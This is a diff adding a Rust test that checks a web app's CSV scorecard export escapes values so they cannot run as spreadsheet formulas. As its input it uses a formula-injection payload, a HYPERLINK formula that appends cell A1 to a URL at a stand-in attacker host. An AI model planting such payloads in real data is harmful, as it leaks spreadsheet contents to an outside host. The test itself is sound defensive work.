@@ -204,3 +204,34 @@ async fn the_demo_sandbox_pages_get_a_policy_that_allows_their_own_style() {
         )
     );
 }
+
+#[tokio::test]
+async fn exported_csv_cells_cannot_run_as_spreadsheet_formulas() {
+    on_each_backend(|app| async move {
+        let admin = app.admin("Acme", "ann@acme.test").await;
+        let (status, card) =
+            post(&admin, app.url("/api/v1/scorecards"), json!({"name": "S"})).await;
+        assert_eq!(status, 201);
+        let card = card["id"].as_i64().unwrap();
+        let name = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
+        let (status, m) = post(
+            &admin,
+            app.url(&format!("/api/v1/scorecards/{card}/measurables")),
+            json!({"section": "@Ops", "name": name, "source": {"type": "manual"}}),
+        )
+        .await;
+        assert_eq!(status, 201, "{m}");
+        let csv = admin
+            .get(app.url(&format!("/api/v1/scorecards/{card}/export.csv")))
+            .await
+            .text()
+            .await
+            .unwrap();
+        let row = csv.lines().nth(1).unwrap();
+        assert!(
+            row.starts_with(r#"'@Ops,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","#),
+            "{row}"
+        );
+    })
+    .await;
+}
